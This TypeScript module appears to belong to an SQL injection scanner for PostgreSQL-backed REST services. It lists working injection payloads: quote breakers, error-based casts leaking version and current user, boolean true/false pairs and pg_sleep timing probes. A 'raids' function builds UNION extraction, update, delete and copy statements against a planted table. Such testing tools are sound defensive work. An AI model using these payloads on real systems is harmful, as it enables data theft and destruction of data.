import { outputColumns } from '../../domain/rest.ts';
import type { Table } from '../../domain/schema.ts';
import type { Plant } from './order.ts';

/** SQL put behind a harmless value, for PostgreSQL. */

/** How long injected statements sleep; well beyond any honest answer, and checked against one that does not. */
export const SLEEP_SECONDS = 2;

/** Each breaks the statement it is put into, in one way of quoting or another. */
export const BREAKERS: readonly string[] = [
  "'",
  '"',
  "\\'",
  "')",
  "';",
  "'/*",
  '$$',
  '$a$;',
  "' and 1=cast((select version()) as int)--",
  "'||(select cast(current_user as int))||'",
  ' and 1=cast((select current_user) as int)',
  "'::int--",
  "%27%20and%201=cast('a'%20as%20int)--",
  '\u02bc',
  '\uff07',
];

/** The first is always true, the second never, in as many characters: answers that differ obeyed it. */
export const PAIRS: readonly (readonly [isTrue: string, isFalse: string])[] = [
  ["' or '1'='1", "' or '1'='2"],
  ["' or 1=1--", "' or 1=2--"],
  ["') or ('1'='1", "') or ('1'='2"],
  [' or 1=1', ' or 1=2'],
  ["%' or '1' like '1", "%' or '1' like '2"],
  ["'||(case when 1=1 then '' else chr(1/0) end)||'", "'||(case when 1=2 then '' else chr(1/0) end)||'"],
];

/** For places where a name stands instead of a value. */
export const NAME_PAIRS: readonly (readonly [isTrue: string, isFalse: string])[] = [
  ['(case when 1=1 then 1 else 1/0 end)', '(case when 1=2 then 1 else 1/0 end)'],
  ['(select 1)', '(select 1/0)'],
];

/** With `seconds` 0 the same statement at once. */
export const SLEEPS: readonly ((seconds: number) => string)[] = [
  (seconds) => `'||(select '' from pg_sleep(${seconds}))||'`,
  (seconds) => `';select pg_sleep(${seconds})--`,
  (seconds) => ` and 1=(select 1 from pg_sleep(${seconds}))`,
  (seconds) => `' or 1=(select 1 from pg_sleep(${seconds}))--`,
  (seconds) => `;select pg_sleep(${seconds})`,
];

/** Read or change the planted table, in the types of the columns of `table`. */
export function raids(table: Table, { table: name, column }: Plant): readonly string[] {
  const loot = `(select ${column} from ${name} limit 1)`;
  // Once is enough, and short: texts may have an upper length.
  const isText = (type: string) => /^(?:text|varchar)/.test(type);
  const first = outputColumns(table).find(({ type }) => isText(type));
  const columns = outputColumns(table).map((own) => (own === first ? loot : isText(own.type) ? "''" : 'null'));
  const union = (quote: string, values: readonly string[]) => `${quote} union all select ${values.join(',')}--`;
  return [
    union("'", columns),
    // The rest of the statement goes on behind it, with its parameters.
    `' union all select ${columns.join(',')} where '1'='1`,
    union("'", [...columns, 'null']),
    union(' ', columns),
    `' and 1=cast(${loot} as int)--`,
    `'||${loot}||'`,
    `';update ${name} set ${column}='taken'--`,
    `;delete from ${name}--`,
    `'; copy (select ${column} from ${name}) to stdout--`,
  ];
}
